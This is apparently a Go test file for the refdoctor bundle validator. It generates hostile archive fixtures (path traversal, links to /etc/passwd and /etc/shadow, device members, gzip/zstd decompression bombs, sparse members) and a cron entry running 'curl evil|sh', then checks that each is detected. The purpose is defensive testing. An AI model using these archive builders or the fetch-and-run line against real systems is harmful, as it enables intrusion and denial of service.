package bundle_test

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zstd"

	"github.com/refdoctor/refdoctor/bundle"
	"github.com/refdoctor/refdoctor/finding"
)

var update = flag.Bool("update", false, "rewrite the generated fixtures under testdata/")

type rawEntry struct {
	name     string
	data     []byte
	typ      byte
	linkname string
}

// rawTar writes entries with archive/tar directly: unlike bundle.Writer it
// will write anything, which is the point of hostile fixtures.
func rawTar(t testing.TB, entries []rawEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		typ := e.typ
		if typ == 0 {
			typ = tar.TypeReg
		}
		hdr := &tar.Header{Name: e.name, Typeflag: typ, Linkname: e.linkname, Mode: 0o644,
			ModTime: bundle.DefaultModTime, Format: tar.FormatPAX}
		if typ == tar.TypeReg {
			hdr.Size = int64(len(e.data))
		}
		if typ == tar.TypeChar {
			hdr.Devmajor, hdr.Devminor = 1, 3
		}
		if err := tw.WriteHeader(hdr); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(e.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func gz(t testing.TB, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&buf, gzip.BestCompression)
	if _, err := zw.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func rawTarGz(t testing.TB, entries []rawEntry) []byte { return gz(t, rawTar(t, entries)) }

// goodEntries is the fixture bundle as raw entries, manifest.yaml first.
func goodEntries(t testing.TB, f *fixture) []rawEntry {
	entries := []rawEntry{{name: bundle.ManifestPath, data: f.manifestYAML(t)}}
	for _, p := range f.order {
		entries = append(entries, rawEntry{name: p, data: f.files[p]})
	}
	return entries
}

// tarHeaderOnly is the 512-byte header block of one regular member,
// without its data: the start of a bomb.
func tarHeaderOnly(t testing.TB, name string, size int64) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	if err := tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Size: size, Mode: 0o644,
		ModTime: bundle.DefaultModTime, Format: tar.FormatUSTAR}); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes() // tw is abandoned on purpose: the data never comes
}

// gzipBomb builds a tiny gzip file that inflates to a member of n MiB of
// zeros after prefix, by repeating one gzip member of 1 MiB of zeros
// (multistream gzip): about 1 KB per MiB, and nothing to compress at test
// time.
func gzipBomb(t testing.TB, prefix []byte, name string, mib int) []byte {
	t.Helper()
	var out bytes.Buffer
	out.Write(gz(t, append(slices.Clone(prefix), tarHeaderOnly(t, name, int64(mib)<<20)...)))
	zeros := gz(t, make([]byte, 1<<20))
	for range mib {
		out.Write(zeros)
	}
	out.Write(gz(t, make([]byte, 1024)))
	return out.Bytes()
}

// zstdBomb is the same with zstd frames: a few bytes per MiB.
func zstdBomb(t testing.TB, name string, mib int) []byte {
	t.Helper()
	enc, err := zstd.NewWriter(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer enc.Close()
	var out bytes.Buffer
	out.Write(enc.EncodeAll(tarHeaderOnly(t, name, int64(mib)<<20), nil))
	zeros := enc.EncodeAll(make([]byte, 1<<20), nil)
	for range mib {
		out.Write(zeros)
	}
	return out.Bytes()
}

type hostileFixture struct {
	file     string
	build    func(t testing.TB) []byte
	want     []finding.Code
	complete bool
	// commit: small enough to live in the repository.
	commit bool
}

func hostileFixtures() []hostileFixture {
	withExtra := func(extra ...rawEntry) func(t testing.TB) []byte {
		return func(t testing.TB) []byte {
			return rawTarGz(t, append(goodEntries(t, newFixture(t)), extra...))
		}
	}
	return []hostileFixture{
		{file: "absolute-path.tgz", want: []finding.Code{finding.UnsafePath}, complete: true, commit: true,
			build: withExtra(rawEntry{name: "/etc/cron.d/refdoctor", data: []byte("* * * * * root sh -c 'curl evil|sh'\n")})},
		{file: "dotdot.tgz", want: []finding.Code{finding.UnsafePath, finding.UnsafePath}, complete: true, commit: true,
			build: withExtra(rawEntry{name: "../../etc/passwd", data: []byte("root::0:0::/:/bin/sh\n")},
				rawEntry{name: "blobs/sha256/../../../evil", data: []byte("x")})},
		{file: "symlink.tgz", want: []finding.Code{finding.LinkMember}, complete: true, commit: true,
			build: withExtra(rawEntry{name: "blobs/sha256/evil", typ: tar.TypeSymlink, linkname: "/etc/passwd"})},
		{file: "hardlink.tgz", want: []finding.Code{finding.LinkMember}, complete: true, commit: true,
			build: withExtra(rawEntry{name: "evil", typ: tar.TypeLink, linkname: "/etc/shadow"})},
		{file: "chardev.tgz", want: []finding.Code{finding.DeviceMember}, complete: true, commit: true,
			build: withExtra(rawEntry{name: "dev/null", typ: tar.TypeChar})},
		{file: "fifo.tgz", want: []finding.Code{finding.DeviceMember}, complete: true, commit: true,
			build: withExtra(rawEntry{name: "pipe", typ: tar.TypeFifo})},
		{file: "duplicate.tgz", want: []finding.Code{finding.DuplicateMember}, complete: true, commit: true,
			build: func(t testing.TB) []byte {
				f := newFixture(t)
				return withExtra(rawEntry{name: bundle.IndexPath, data: f.files[bundle.IndexPath]})(t)
			}},
		{file: "larger-than-listed.tgz", want: []finding.Code{finding.SizeMismatch}, complete: true, commit: true,
			build: func(t testing.TB) []byte {
				f := newFixture(t)
				p := f.firstLayer()
				f.files[p] = append(f.files[p], make([]byte, 50000)...)
				return rawTarGz(t, goodEntries(t, f))
			}},
		{file: "bomb.tgz", want: []finding.Code{finding.DecompressionBomb}, commit: true,
			build: func(t testing.TB) []byte {
				f := newFixture(t)
				prefix := rawTar(t, []rawEntry{{name: bundle.ManifestPath, data: f.manifestYAML(t)}})
				prefix = prefix[:len(prefix)-1024] // drop the end-of-archive blocks
				return gzipBomb(t, prefix, "blobs/sha256/"+strings.Repeat("0", 64), 100)
			}},
		{file: "truncated.tgz", want: []finding.Code{finding.TruncatedArchive}, commit: true,
			build: func(t testing.TB) []byte {
				data := newFixture(t).write(t)
				return data[:len(data)*6/10]
			}},
		{file: "invalid-yaml.tgz", want: []finding.Code{finding.MalformedManifest}, complete: true, commit: true,
			build: func(t testing.TB) []byte {
				entries := goodEntries(t, newFixture(t))
				entries[0].data = []byte("schemaVersion: 1\nkind: [MirrorBundle\n")
				return rawTarGz(t, entries)
			}},
		{file: "unknown-field.tgz", want: []finding.Code{finding.MalformedManifest}, complete: true, commit: true,
			build: func(t testing.TB) []byte {
				entries := goodEntries(t, newFixture(t))
				entries[0].data = append([]byte("signedBy: mallory\n"), entries[0].data...)
				return rawTarGz(t, entries)
			}},
		{file: "corrupt-checksum.tgz", want: []finding.Code{finding.CorruptArchive}, commit: true,
			build: func(t testing.TB) []byte {
				data := newFixture(t).write(t)
				data[len(data)-8] ^= 0xff // the gzip CRC32
				return data
			}},
		{file: "trailing-garbage.tgz", want: []finding.Code{finding.TrailingData}, complete: true, commit: true,
			build: func(t testing.TB) []byte {
				return append(newFixture(t).write(t), []byte("GARBAGE AFTER THE GZIP STREAM")...)
			}},
		{file: "data-after-end.tgz", want: []finding.Code{finding.TrailingData}, complete: true, commit: true,
			build: func(t testing.TB) []byte {
				plain := rawTar(t, goodEntries(t, newFixture(t)))
				return gz(t, append(plain, []byte("hidden payload after the end-of-archive marker")...))
			}},
		{file: "oversized-referrer.tgz", want: []finding.Code{finding.MemberTooLarge, finding.SizeMismatch}, complete: true, commit: true,
			build: func(t testing.TB) []byte {
				f := newFixture(t)
				p := f.referrers[0].path
				f.files[p] = append(f.files[p], bytes.Repeat([]byte(" "), bundle.MaxReferrerSize)...)
				return rawTarGz(t, goodEntries(t, f))
			}},
	}
}

// TestGenerateFixtures writes testdata/hostile/*.tgz, testdata/good.tgz
// and the fuzz seed corpora with -update; without it, it checks that the
// committed files are what the generator makes, so they cannot drift.
func TestGenerateFixtures(t *testing.T) {
	files := map[string][]byte{}
	for _, h := range hostileFixtures() {
		if h.commit {
			files[filepath.Join("testdata", "hostile", h.file)] = h.build(t)
		}
	}
	f := newFixture(t)
	files[filepath.Join("testdata", "good.tgz")] = f.write(t)
	f.compression = bundle.CompressionZstd
	files[filepath.Join("testdata", "good.tar.zst")] = f.write(t)
	for name, seed := range fuzzSeedsManifest(t) {
		files[filepath.Join("testdata", "fuzz", "FuzzParseManifest", name)] = fuzzFile(seed)
	}
	for name, seed := range fuzzSeedsValidate(t) {
		files[filepath.Join("testdata", "fuzz", "FuzzValidate", name)] = fuzzFile(seed)
	}
	for path, want := range files {
		if *update {
			if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(path, want, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		got, err := os.ReadFile(path)
		if err != nil {
			t.Errorf("%v (run go test ./bundle -run TestGenerateFixtures -update)", err)
			continue
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s is not what the generator makes (run go test ./bundle -run TestGenerateFixtures -update)", path)
		}
	}
}

// fuzzFile renders one []byte seed in the testing/fuzz corpus format.
func fuzzFile(seed []byte) []byte {
	return []byte("go test fuzz v1\n[]byte(" + strconv.Quote(string(seed)) + ")\n")
}

func TestHostileFixtures(t *testing.T) {
	t.Parallel()
	for _, h := range hostileFixtures() {
		if !h.commit {
			continue
		}
		t.Run(h.file, func(t *testing.T) {
			t.Parallel()
			data, err := os.ReadFile(filepath.Join("testdata", "hostile", h.file))
			if err != nil {
				t.Fatal(err)
			}
			for _, check := range []bool{false, true} {
				rep, err := validate(t, data, bundle.WithCheckReferrers(check))
				if err != nil {
					t.Fatalf("check-referrers=%v: error %v (hostile archives are report problems, exit 1)", check, err)
				}
				if got := codes(rep); !slices.Equal(got, h.want) {
					t.Fatalf("check-referrers=%v: codes = %v, want %v\n%s", check, got, h.want, dump(rep))
				}
				if rep.OK || rep.Complete != h.complete {
					t.Errorf("ok = %v complete = %v, want complete %v", rep.OK, rep.Complete, h.complete)
				}
			}
		})
	}
}

func TestCommittedGoodBundles(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"good.tgz", "good.tar.zst"} {
		rep, err := bundle.ValidateFile(context.Background(), filepath.Join("testdata", name), bundle.WithCheckReferrers(true))
		if err != nil || !rep.OK {
			t.Errorf("%s: err %v, report %s", name, err, dump(rep))
		}
	}
}

// countingSource counts what the validator pulls from the input.
type countingSource struct {
	r io.Reader
	n atomic.Int64
}

func (c *countingSource) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n.Add(int64(n))
	return n, err
}

// TestOversizedManifest streams a manifest.yaml that declares 1 GiB and is
// produced lazily, so the test never holds it: the validator must refuse
// it from the header, having read almost nothing.
func TestOversizedManifest(t *testing.T) {
	t.Parallel()
	pr, pw := io.Pipe()
	go func() {
		zw := gzip.NewWriter(pw)
		_, err := zw.Write(tarHeaderOnly(t, bundle.ManifestPath, 1<<30))
		if err == nil {
			_, err = io.CopyN(zw, zeroReader{}, 1<<30)
		}
		if err == nil {
			err = zw.Close()
		}
		pw.CloseWithError(err)
	}()
	src := &countingSource{r: pr}
	start := time.Now()
	rep, err := bundle.Validate(context.Background(), src)
	pr.Close()
	if err != nil {
		t.Fatal(err)
	}
	if got := codes(rep); !slices.Equal(got, []finding.Code{finding.MemberTooLarge}) || rep.Errors[0].Path != bundle.ManifestPath || rep.Complete {
		t.Fatalf("report %s", dump(rep))
	}
	if n := src.n.Load(); n > 1<<20 {
		t.Errorf("read %d compressed bytes to refuse the manifest", n)
	}
	t.Logf("refused in %v after %d compressed bytes", time.Since(start), src.n.Load())
}

func TestParseManifestBounded(t *testing.T) {
	t.Parallel()
	src := &countingSource{r: io.LimitReader(zeroReader{}, 1<<30)}
	_, err := bundle.ParseManifest(src, 16<<20)
	if !errors.Is(err, bundle.ErrManifestTooLarge) || !errors.Is(err, bundle.ErrMalformedManifest) {
		t.Fatalf("err = %v", err)
	}
	if n := src.n.Load(); n > 16<<20+64<<10 {
		t.Errorf("read %d bytes with a 16 MiB limit", n)
	}
}

type zeroReader struct{}

func (zeroReader) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// TestBombs: the test-time bombs expand to 1 GiB; nothing is committed.
// Each must be stopped early, in bounded time and memory.
func TestBombs(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	prefix := rawTar(t, []rawEntry{{name: bundle.ManifestPath, data: f.manifestYAML(t)}})
	prefix = prefix[:len(prefix)-1024]
	tcs := []struct {
		name string
		data []byte
		opts []bundle.Opt
	}{
		// manifest.yaml first: stopped once past the listed sizes + 64 MiB.
		{name: "gzip after manifest", data: gzipBomb(t, prefix, "blobs/sha256/"+strings.Repeat("1", 64), 1024)},
		// No manifest yet: the expansion ratio stops it (past 256 MiB by
		// default; 32 MiB here to keep the race-enabled run short).
		{name: "gzip without manifest", data: gzipBomb(t, nil, "blobs/sha256/"+strings.Repeat("2", 64), 1024),
			opts: []bundle.Opt{bundle.WithExpansionLimit(bundle.DefaultExpansionRatio, 32<<20)}},
		{name: "zstd without manifest", data: zstdBomb(t, "blobs/sha256/"+strings.Repeat("3", 64), 1024),
			opts: []bundle.Opt{bundle.WithExpansionLimit(bundle.DefaultExpansionRatio, 32<<20)}},
		// A caller that knows the size can cut earlier.
		{name: "fixed bound", data: zstdBomb(t, "x", 1024), opts: []bundle.Opt{bundle.WithMaxArchiveSize(8 << 20)}},
	}
	for _, c := range tcs {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			rep, err := validate(t, c.data, c.opts...)
			if err != nil {
				t.Fatal(err)
			}
			if got := codes(rep); !slices.Equal(got, []finding.Code{finding.DecompressionBomb}) || rep.Complete {
				t.Fatalf("%d-byte bomb: report %s", len(c.data), dump(rep))
			}
			if rep.BytesChecked > 64<<20 {
				t.Errorf("hashed %d bytes before stopping", rep.BytesChecked)
			}
		})
	}
	t.Run("member over the bound", func(t *testing.T) {
		t.Parallel()
		rep, err := validate(t, gzipBomb(t, nil, "blobs/sha256/"+strings.Repeat("4", 64), 16), bundle.WithMaxMemberSize(1<<20))
		if err != nil || !slices.Equal(codes(rep), []finding.Code{finding.MemberTooLarge}) || rep.BytesChecked != 0 {
			t.Fatalf("err %v, report %s", err, dump(rep))
		}
	})
}

// patchedHeader is a USTAR header block for name with its type flag
// replaced, for entry types archive/tar will not write.
func patchedHeader(t testing.TB, name string, typ byte, size int64) []byte {
	t.Helper()
	blk := tarHeaderOnly(t, name, size)
	blk[156] = typ
	if typ == tar.TypeGNUSparse {
		copy(blk[257:265], "ustar  \x00") // GNU magic: only GNU tar has sparse type S
		clear(blk[265:])
	}
	copy(blk[148:156], "        ")
	sum := 0
	for _, b := range blk {
		sum += int(b)
	}
	copy(blk[148:156], fmt.Sprintf("%06o\x00 ", sum))
	return blk
}

func paxRecord(k, v string) string {
	n := len(k) + len(v) + 3
	for {
		rec := fmt.Sprintf("%d %s=%s\n", n, k, v)
		if len(rec) == n {
			return rec
		}
		n = len(rec)
	}
}

func pad512(b []byte) []byte {
	if r := len(b) % 512; r != 0 {
		b = append(b, make([]byte, 512-r)...)
	}
	return b
}

// TestSparseMembersRefused: sparse members expand inside archive/tar, out
// of reach of the bomb meter, so they are refused unread.
func TestSparseMembersRefused(t *testing.T) {
	t.Parallel()
	target := "blobs/sha256/" + strings.Repeat("5", 64)
	records := paxRecord("GNU.sparse.major", "1") + paxRecord("GNU.sparse.minor", "0") +
		paxRecord("GNU.sparse.name", target) + paxRecord("GNU.sparse.realsize", fmt.Sprint(int64(1)<<30))
	sparseMap := pad512([]byte(fmt.Sprintf("1\n%d\n3\n", int64(1)<<30-3)))
	var pax []byte
	pax = append(pax, patchedHeader(t, "PaxHeaders/x", tar.TypeXHeader, int64(len(records)))...)
	pax = append(pax, pad512([]byte(records))...)
	pax = append(pax, tarHeaderOnly(t, "GNUSparseFile.0/x", int64(len(sparseMap)+3))...)
	pax = append(pax, pad512(append(sparseMap, "hi\n"...))...)
	pax = append(pax, make([]byte, 1024)...)

	oldGNU := append(patchedHeader(t, target, tar.TypeGNUSparse, 0), make([]byte, 1024)...)
	for name, data := range map[string][]byte{"pax 1.0": pax, "old gnu": oldGNU} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			rep, err := validate(t, gz(t, data))
			if err != nil {
				t.Fatal(err)
			}
			if got := codes(rep); !slices.Contains(got, "UnsupportedMember") || rep.BytesChecked != 0 {
				t.Fatalf("report %s, bytes checked %d", dump(rep), rep.BytesChecked)
			}
		})
	}
}

// TestZstdDamage: the zstd reader's failures map to the same codes as
// gzip's.
func TestZstdDamage(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.compression = bundle.CompressionZstd
	good := f.write(t)
	flipped := slices.Clone(good)
	flipped[len(flipped)-2] ^= 0xff // inside the frame checksum
	tcs := map[string]struct {
		data     []byte
		want     finding.Code
		complete bool
	}{
		"truncated":        {good[:len(good)*6/10], finding.TruncatedArchive, false},
		"trailing garbage": {append(slices.Clone(good), "GARBAGE AFTER THE FRAME"...), finding.TrailingData, true},
		"checksum":         {flipped, finding.CorruptArchive, false},
	}
	for name, c := range tcs {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			rep, err := validate(t, c.data)
			if err != nil {
				t.Fatal(err)
			}
			if got := codes(rep); !slices.Equal(got, []finding.Code{c.want}) || rep.Complete != c.complete {
				t.Fatalf("codes %v complete %v, want %s %v\n%s", got, rep.Complete, c.want, c.complete, dump(rep))
			}
		})
	}
}
